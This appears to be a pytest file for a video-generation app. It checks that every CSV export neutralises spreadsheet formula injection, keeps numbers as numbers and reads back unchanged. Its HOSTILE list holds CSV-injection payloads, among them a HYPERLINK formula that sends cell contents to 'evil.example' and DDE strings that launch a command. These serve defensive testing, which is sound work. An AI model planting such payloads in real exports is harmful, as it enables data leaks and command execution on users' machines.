"""Every CSV the product writes is safe to open in a spreadsheet (issue 9 item 7, OWASP CSV
injection): text cells that start with =, +, -, @, a tab or a carriage return are written with
a leading ', so a spreadsheet shows them as text; numbers — negative ones included — stay
numbers; our own reader gives back exactly what was written."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest

from studio import forecast, manifest
from studio.csvsafe import restore_cell, safe_cell
from studio.jobs import Job
from tests.model_ids import RHEA, STARLIGHT

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
# The OWASP triggers: a spreadsheet evaluates a cell whose text starts with one of these.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: text (not a number) starting with a trigger."""
    out = []
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                try:
                    float(cell)
                except ValueError:
                    out.append(cell)
    return out


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _plan() -> list[forecast.PlanRow]:
    return [forecast.PlanRow(clip=name, duration_s=14.0, width=1280, height=720, fps=20.0,
                             model_id=STARLIGHT, params={"resolution": "4k"},
                             path=f"-{i}.mp4")
            for i, name in enumerate(HOSTILE)]


def test_the_plan_csv_neutralises_formulas_and_reads_back_unchanged():
    text = forecast.plan_csv(_plan())
    rows = _rows(text)
    assert _formula_cells(rows) == []
    clips = [r[0] for r in rows[1:]]
    assert clips == ["'" + name for name in HOSTILE]  # text to a spreadsheet
    back = forecast.read_plan_text(text)  # the reader strips a label's outer whitespace
    assert [r.clip for r in back] == [n.strip() for n in HOSTILE] and [r.path for r in back] == [
        f"-{i}.mp4" for i in range(len(HOSTILE))]


def test_the_priced_plan_export_neutralises_formulas_and_keeps_numbers_numbers():
    priced = forecast.price_plan(_plan())
    rows = _rows(priced.to_csv())
    assert _formula_cells(rows) == []
    header = rows[0]
    for row in rows[1:]:
        record = dict(zip(header, row, strict=True))
        assert Decimal(record["quote_usd"]) == Decimal("2.0916")  # a number, unquoted
        assert float(record["duration_s"]) == 14.0
    assert [r.clip for r in forecast.read_plan_text(priced.to_csv())] == [n.strip()
                                                                          for n in HOSTILE]


def test_the_selection_manifest_neutralises_formulas_and_keeps_a_negative_charge(tmp_path):
    jobs = [Job(model_id=RHEA, provider="oxen", owner="o", params={"x": 1},
                source={"kind": "url", "label": label, "url": "https://cdn.example/a.mp4"},
                status="succeeded", charge_usd="-0.50", quote={"amount_usd": "0.40",
                                                               "provenance": "proxy"})
            for label in HOSTILE]
    archive = manifest.write_zip(jobs, tmp_path)
    with zipfile.ZipFile(archive.path) as zf:
        text = zf.read(manifest.MANIFEST_NAME).decode("utf-8")
    rows = _rows(text)
    assert _formula_cells(rows) == []
    header = rows[0]
    records = [dict(zip(header, r, strict=True)) for r in rows[1:]]
    assert [r["source_label"] for r in records] == ["'" + name for name in HOSTILE]
    assert {r["charge_usd"] for r in records} == {"-0.50"}  # a refund stays a number


@pytest.mark.parametrize("value", ["-0.5", "+3", "-1e3", "1E-7", "-12", "0"])
def test_numbers_are_never_quoted(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [*HOSTILE, "", "'", "''", "'abc", "plain", "a=b", "-", "+",
                                   "@", "'''=x"])
def test_restore_gives_back_exactly_what_was_written(value):
    assert restore_cell(safe_cell(value)) == value
    assert not str(safe_cell(value)).startswith(TRIGGERS) or _is_number(value)


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_the_estimate_vs_actual_export_neutralises_provider_ids_and_names():
    """The ledger's "Export CSV" (components.ledger_view): the generation id comes from the
    provider and the owner name from a browser, so either can be a formula."""
    from components.ledger_view import _generations_table
    from studio import ledger
    from studio.csvsafe import frame_csv

    jobs = [Job(model_id=RHEA, provider="oxen", owner="o", params={}, source={},
                remote_id=text, owner_name=text, status="succeeded", charge_usd="0.40",
                quote={"amount_usd": "0.40", "provenance": "proxy"})
            for text in HOSTILE]
    table = _generations_table(ledger.generation_rows(jobs), {RHEA: "Topaz Rhea"})
    rows = _rows(frame_csv(table))
    assert _formula_cells(rows) == []
    records = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [restore_cell(r["Generation id"]) for r in records] == HOSTILE
    assert {r["Quote"] for r in records} == {"$0.40"}  # money as the page shows it


def test_streamlits_own_table_csv_export_is_off():
    """Streamlit's "Download as CSV" on a table writes cells unchanged; the app turns it off
    and offers its own neutralised exports instead."""
    import tomllib
    from pathlib import Path

    config = tomllib.loads((Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml")
                           .read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
